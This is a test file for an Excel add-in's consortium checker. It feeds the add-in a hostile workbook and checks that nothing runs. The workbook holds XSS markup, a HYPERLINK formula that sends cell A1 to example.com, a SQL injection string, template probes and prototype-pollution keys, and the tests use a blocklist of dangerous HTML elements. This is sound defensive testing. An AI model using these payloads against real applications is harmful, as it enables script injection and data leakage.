import { writeXlsx } from "hucre";
import { openAll } from "../taskpane/gallery/open-gallery";
import { type Demo, type DemoPage, startedDemo } from "./demo-page";

// A workbook made to do harm: whatever stands in it is shown as text, in the pane, in the sheet and on our summary.
const MARKUP = "<img src=x onerror=\"document.title='run'\"><script>document.title='run'</script>";
const FORMULA = '=HYPERLINK("https://example.com/?"&A1,"click")';
const TURNED = "\u202eGmbH desrever\u202c \u2066Werk\u2069";
const LONG = `Endless ${"x".repeat(50_000)}`;

const ROWS = [
  ["Organisation", "Country", "Role", "Organisation type", "__proto__", "constructor", MARKUP],
  [MARKUP, "Denmark", "Coordinator", "University", "1", "toString", ""],
  [FORMULA, "Germany", "Partner", "VET school", "{}", "valueOf", "javascript:alert(1)"],
  [TURNED, "SP", "Partner", "SME", "__proto__", "", ""],
  [LONG, LONG, "Partner", MARKUP, "", "", LONG],
  ["__proto__", "__proto__", "__proto__", "__proto__", "", "", ""],
  ["${7*7} {{7*7}} %s", "Frrance", MARKUP, "constructor", "", "", ""],
  ["'; DROP TABLE partners; --", "Austria\u0007\u200b", "Partner", "Other", "", "", ""],
];

let demo: Demo;
let now: DemoPage;

jest.setTimeout(120_000);
beforeAll(async () => {
  demo = await startedDemo();
  const file = await writeXlsx({ sheets: [{ name: "P&<b>artners<b>", rows: ROWS }] });
  now = await demo.open({ file });
  await now.pane.getByRole("button", { name: "Check consortium" }).click();
  await now.pane.locator(".verdict").waitFor();
}, 240_000);
afterAll(() => demo.close());

test("nothing runs, nothing is asked of any other place, nothing goes wrong", async () => {
  await openAll(now.pane);
  await now.page.getByRole("tab", { name: "Consortium check" }).click();
  expect(await now.page.title()).not.toBe("run");
  expect(await now.pane.evaluate(() => document.title)).toBe("Alliance Check");
  expect(now.strangers).toEqual([]);
  expect(await now.errors()).toEqual([]);
});

test("markup is text: no element comes of it, in the pane or in the sheet", async () => {
  const harmful = "img, script, a, iframe, object, embed, b, form";
  expect(await now.pane.locator(`#pane :is(${harmful})`).count()).toBe(0);
  expect(await now.page.locator(`[role=grid] :is(${harmful})`).count()).toBe(0);
  expect(await now.pane.locator("#pane").innerText()).toContain("<img src=x");
});

test("long texts are cut short, turned ones keep to themselves, and the pane stays as wide as it is", async () => {
  const { longest, width, room } = await now.pane.evaluate(() => ({
    longest: Math.max(
      ...[...document.querySelectorAll("#pane *")].map((one) =>
        one.childElementCount === 0 ? (one.textContent ?? "").length : 0
      )
    ),
    width: document.documentElement.scrollWidth,
    room: document.documentElement.clientWidth,
  }));
  expect(longest).toBeLessThan(1500);
  expect(width).toBeLessThanOrEqual(room);
  expect(await now.pane.locator("#pane").innerText()).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/);
});

test("what the summary repeats of it can't become a formula, and every answer finds its question again", async () => {
  const formulas = await now.pane.evaluate(() =>
    (window as any).Excel.run(async (context: any) => {
      const sheet = context.workbook.worksheets.getItem("Consortium check");
      const range = sheet.getUsedRange().load("formulas");
      await context.sync();
      return range.formulas.flat().filter((cell: unknown) => String(cell).startsWith("="));
    })
  );
  expect(formulas.filter((cell: string) => !cell.startsWith(FORMULA))).toEqual([]);

  const before = await now.pane.locator(".question").count();
  expect(before).toBeGreaterThan(2);
  await now.pane.getByRole("button", { name: /^Accept all/ }).click();
  await now.pane.locator(".notice").waitFor();
  expect(await now.pane.locator(".question").count()).toBeLessThan(before);
  expect(await now.errors()).toEqual([]);
});

test("prototypes are as they were", async () => {
  const own = await now.pane.evaluate(() => [
    Object.keys(Object.prototype),
    ({} as Record<string, unknown>)["1"],
  ]);
  expect(own).toEqual([[], undefined]);
});
